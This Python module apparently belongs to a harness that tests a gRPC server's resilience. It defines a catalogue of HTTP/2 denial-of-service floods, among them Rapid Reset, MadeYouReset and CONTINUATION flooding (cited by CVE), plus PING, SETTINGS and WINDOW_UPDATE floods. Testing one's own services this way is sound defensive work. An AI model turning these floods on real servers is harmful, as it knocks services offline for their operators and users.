"""Owns attacks by frames that carry no call: they cost a peer a few bytes each, and the server its time."""

import wire
from strangers import Says, Stranger, Strangers

from . import says
from .attack import Attack

_CALL = wire.grpc_request(says.GET_JWKS)
_CONNECTIONS = 4


def _flood(frames: bytes, opening: bytes = says.EVERYTHING_FITS) -> Strangers:
    """The same frames again and again, as fast as the server takes them."""
    chunk = frames * max(1, (1 << 16) // len(frames))
    return Strangers("grpc", _CONNECTIONS, says.always(opening), says.always(chunk))


def _flood_of_streams(again: Says, opening: Says | None = None) -> Strangers:
    return Strangers("grpc", _CONNECTIONS, opening or says.heads(_CALL, ends=True)[0], again)


def _reset_at_once(stranger: Stranger) -> bytes:
    """CVE-2023-44487."""
    short = wire.recalled(len(_CALL))
    return b"".join(says.headers(stream, short) + wire.reset(stream) for stream in stranger.streams(500))


def _made_to_reset(stranger: Stranger) -> bytes:
    """CVE-2025-8671: a frame that has the server end the stream by itself."""
    short = wire.recalled(len(_CALL))
    return b"".join(says.headers(stream, short) + wire.window_update(stream, 0) for stream in stranger.streams(500))


def _many_resets(stranger: Stranger) -> bytes:
    """More at once than the server takes: it ends the connection, and may say so in its log."""
    return says.heads(_CALL, ends=True)[0](stranger) + _reset_at_once(stranger)


def _window_toggles() -> bytes:
    return wire.settings(window=0) + wire.settings(window=1)


def _to_open_streams(kind: int, payload: bytes) -> Strangers:
    """To calls whose rest has not come."""
    frames = b"".join(wire.frame(kind, 0, stream, payload) for stream in range(1, 2 * wire.FEWEST_STREAMS, 2))
    return _flood_of_streams(says.always(frames * 16), says.open_calls(_CALL))


def _headers_without_end() -> Strangers:
    """CVE-2024-27316: header fields in frame after frame, of which none is the last."""
    opening = says.EVERYTHING_FITS + wire.frame(wire.HEADERS, 0, 1, wire.literal(_CALL))
    piece = wire.literal((("x-more", "a" * 1_000),)) * 16
    return _flood(wire.frame(wire.CONTINUATION, 0, 1, piece[: wire.LARGEST_FRAME]), opening)


def _empty_continuations() -> Strangers:
    opening = says.EVERYTHING_FITS + wire.frame(wire.HEADERS, 0, 1, wire.literal(_CALL))
    return _flood(wire.frame(wire.CONTINUATION, 0, 1), opening)


ATTACKS = (
    Attack(
        "settings-window",
        "SETTINGS that open and shut the windows of 100 open calls",
        (_flood_of_streams(says.always(_window_toggles() * 1_000), says.open_calls(_CALL)),),
        also_from_many=True,
    ),
    Attack("settings", "Empty SETTINGS, each of which is answered", (_flood(wire.settings()),)),
    Attack("settings-table", "SETTINGS that resize the table of headers", (_flood(wire.settings(table=0) + wire.settings(table=4096)),)),
    Attack("ping", "PING", (_flood(wire.frame(wire.PING, 0, 0, b"\x00" * 8)),), also_from_many=True),
    Attack(
        "ping-unread",
        "PING, whose answers nobody reads",
        (
            Strangers(
                "grpc",
                64,
                says.always(says.GREETING),
                says.always(wire.frame(wire.PING, 0, 0, b"\x00" * 8) * 3_000),
                reads=False,
                receive_buffer=2_304,
            ),
        ),
    ),
    Attack("empty-data", "DATA of no byte to 100 open calls", (_to_open_streams(wire.DATA, b""),), also_from_many=True),
    Attack("window-update", "WINDOW_UPDATE by 1", (_flood(wire.window_update(0, 1)),)),
    Attack("window-update-streams", "WINDOW_UPDATE by 1 of 100 open calls", (_to_open_streams(wire.WINDOW_UPDATE, b"\x00\x00\x00\x01"),)),
    Attack("priority", "PRIORITY", (_flood(wire.frame(wire.PRIORITY, 0, 1, b"\x00\x00\x00\x03\x10")),)),
    Attack("unknown-frames", "Frames of an unknown kind", (_flood(wire.frame(0xFA, 0, 0, b"")),)),
    Attack("rapid-reset", "Calls that are reset at once", (_flood_of_streams(_reset_at_once),), also_from_many=True),
    Attack(
        "resets-logged",
        "2,500 connections a second with 500 calls each that are reset at once",
        (Strangers("grpc", 100, _many_resets, come_back=2_500),),
    ),
    Attack(
        "pings-answered",
        "Answers to a PING that nobody has sent",
        (_flood(wire.frame(wire.PING, wire.ACK, 0, b"\x01" * 8)),),
    ),
    Attack("made-you-reset", "Calls that the server is made to reset", (_flood_of_streams(_made_to_reset),)),
    Attack("continuation", "HEADERS continued without end", (_headers_without_end(),), also_from_many=True),
    Attack("empty-continuation", "HEADERS continued without end by frames of no byte", (_empty_continuations(),)),
)
